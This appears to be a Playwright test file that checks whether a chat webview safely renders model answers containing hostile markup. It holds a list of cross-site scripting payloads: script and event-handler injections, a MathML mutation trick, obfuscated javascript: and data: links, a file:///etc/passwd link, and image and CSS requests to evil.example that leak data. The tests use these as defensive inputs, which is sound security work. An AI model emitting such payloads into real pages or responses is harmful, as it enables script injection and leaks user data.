/** Nothing that a model writes may run, load or open anything: whole and streamed, with the policy and without it. */
import assert from "node:assert/strict";
import type { Browser } from "playwright-core";
import { answer, streaming, summary, summaryDetail, user, view } from "./support/viewBuilders.ts";
import { launchBrowser, WebviewPage } from "./support/webviewPage.ts";
import { startWebviewServer, type WebviewServer } from "./support/webviewServer.ts";

const samples: readonly string[] = [
  "<script>trap('script')</script>",
  "text <script>trap('inline script')</script> text",
  "<img src=x onerror=trap('onerror')>",
  '<svg onload="trap(\'svg\')"><animate onbegin=trap("animate") attributeName=x dur=1s></svg>',
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=trap('mathml')&gt;\">",
  "<iframe srcdoc=\"<script>parent.trap('srcdoc')</script>\"></iframe>",
  "<details open ontoggle=trap('toggle')>",
  "<body onload=trap('body')>",
  "<input autofocus onfocus=trap('focus')>",
  "<video><source onerror=trap('video')></video>",
  "<a href=\"javascript:trap('a')\">click</a>",
  "[click](javascript:trap('link'))",
  "[click](JaVaScRiPt:trap('case'))",
  "[click](java&#10;script:trap('entity'))",
  "[click](&#106;avascript:trap('entity2'))",
  "[click](data:text/html;base64,PHNjcmlwdD50cmFwKCdkYXRhJyk8L3NjcmlwdD4=)",
  "[click](vbscript:trap('vb'))",
  "[click](command:workbench.action.quit)",
  "[click](vscode://x/y)",
  "[click](file:///etc/passwd)",
  "[click](//evil.example/)",
  "[click](https://user:pass@evil.example/)",
  "<javascript:trap('autolink')>",
  "[a]: javascript:trap('reference')\n\n[click][a]",
  "![x](javascript:trap('image'))",
  "![x](https://evil.example/leak.png?secret)",
  "![x](data:image/svg+xml,<svg onload=trap('datasvg')>)",
  "![x](/local.png)",
  '<link rel=stylesheet href="/evil.css"><link rel=prefetch href=/prefetch><link rel=preconnect href=/x>',
  "<style>@import '/evil.css'; body { background: url(/leak) }</style>",
  '<div style="background:url(/leak)">x</div>',
  '<meta http-equiv="refresh" content="0;url=/redirected">',
  '<base href="https://evil.example/">',
  "<form action=/leak><button>Send</button></form>",
  "<object data=/leak></object><embed src=/leak>",
  '"><script>trap("attribute")</script>',
  '```"><script>trap("language")</script>\ncode\n```',
  "```html\n</code></pre><script>trap('fence')</script>\n```",
  "`</code><script>trap('code')</script>`",
  "| <script>trap('cell')</script> |\n|---|\n| <img src=x onerror=trap('cell2')> |",
  "&lt;script&gt;trap('entities')&lt;/script&gt;",
  "\u202eevil\u202c \u2066x\u2069 zero\u200bwidth \u{e0041}\u{e0042}",
  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
  "\u0000null\u0000 \uffff \ud800 lone",
  "__proto__ constructor toString\n\n[__proto__]: https://a.example/\n[constructor]: https://b.example/\n\n[constructor] [toString]",
];

/** Elements that an answer can become; nothing else may be in the transcript. */
const allowed = new Set(
  "div h2 p span button a strong em s code br pre ul ol li blockquote hr table thead tbody tr th td".split(" "),
);

describe("webview: hostile answers", function () {
  this.timeout(60_000);
  let browser: Browser;
  before(async () => {
    browser = await launchBrowser();
  });
  after(async () => {
    await browser.close();
  });

  const check = async (server: WebviewServer, opened: WebviewPage, fill: () => Promise<void>): Promise<void> => {
    const requests: string[] = [];
    opened.page.on("request", (request) => {
      if (!request.url().endsWith("/highlight.js")) requests.push(request.url());
    });
    await fill();
    await opened.settle();
    const { page } = opened;
    for (const dead of await page.locator(".dead-link").all()) await dead.click();
    const found = await page.evaluate(() => {
      const elements = [...document.querySelectorAll(".rows *")];
      return {
        trapped: window.trapped,
        names: [...new Set(elements.map((element) => element.localName))],
        handlers: elements.flatMap((element) =>
          element.getAttributeNames().filter((name) => /^on|^style$|^src/.test(name)),
        ),
        addresses: [...document.querySelectorAll<HTMLAnchorElement>(".rows a")].map((link) => link.href),
      };
    });
    assert.deepEqual(found.trapped, []);
    assert.deepEqual(
      found.names.filter((name) => !allowed.has(name)),
      [],
    );
    assert.deepEqual(found.handlers, []);
    assert.deepEqual(
      found.addresses.filter((href) => !/^https?:\/\/(?!user)/.test(href)),
      [],
    );
    assert.deepEqual(requests, []);
    assert.deepEqual(server.unexpected, []);
    assert.deepEqual(opened.problems, []);
    assert.deepEqual(
      (await opened.posted()).filter((message) => message.kind === "openLink"),
      [],
    );
    assert.equal(page.url(), `${server.origin}/`);
  };

  for (const csp of [true, false]) {
    describe(csp ? "with the policy" : "without the policy", () => {
      let server: WebviewServer;
      let opened: WebviewPage;
      before(async () => {
        server = await startWebviewServer({ csp });
      });
      after(async () => {
        await server.close();
      });
      beforeEach(async () => {
        opened = await WebviewPage.open(browser, server);
      });
      afterEach(async () => {
        await opened.close();
      });

      it("whole: text stays text", async () => {
        await check(server, opened, async () => {
          await opened.show(
            view(
              samples.map((sample, index) =>
                answer(index, sample, { thinking: sample, meta: sample, stateText: sample }),
              ),
            ),
          );
          await opened.page.getByRole("button", { name: "Thoughts" }).first().click();
        });
        const shown = await opened.page.locator("[data-message-id='0']").innerText();
        assert.match(shown, /<script>trap\('script'\)<\/script>/);
      });

      it("in every other place: the user's words, summaries, problems, titles", async () => {
        await check(server, opened, async () => {
          const all = samples.join("\n\n");
          const problem = { tone: "error", text: all, actions: [{ label: all, command: "retry" }] } as const;
          await opened.show(
            view([user(1, all), summary(1, { meta: all }), answer(2, "x", { state: "failed", problem })], {
              draft: all,
            }),
          );
          await opened.page.locator("[data-summary-id] button").first().click();
          const detail = summaryDetail(all, {
            facts: [{ title: all, facts: [all] }],
            unverified: [all],
            versions: [0, 1].map((summaryId) => ({ summaryId, label: all, isShown: summaryId === 1 })),
            models: [all],
          });
          await opened.say({ kind: "summaryDetail", summaryId: 1, detail });
          const messages = [{ messageId: 0, who: all, text: all }];
          const originals = { from: 0, total: 1, messages };
          await opened.say({ kind: "summaryOriginals", summaryId: 1, originals });
          for (const tab of ["facts", "unverified", "originals", "versions", "summary"]) {
            await opened.page.locator(`[data-tab="${tab}"]`).click();
          }
          await opened.say({ kind: "status", status: { title: all, model: { label: all, providerLabel: all } } });
        });
      });

      it("streamed in pieces", async () => {
        await check(server, opened, async () => {
          await opened.show(view([streaming("step_1")]));
          const text = samples.join("\n\n");
          for (let at = 0; at < text.length; at += 7) {
            await opened.say({ kind: "delta", rowId: "step_1", part: "text", text: text.slice(at, at + 7) });
          }
        });
      });
    });
  }
});
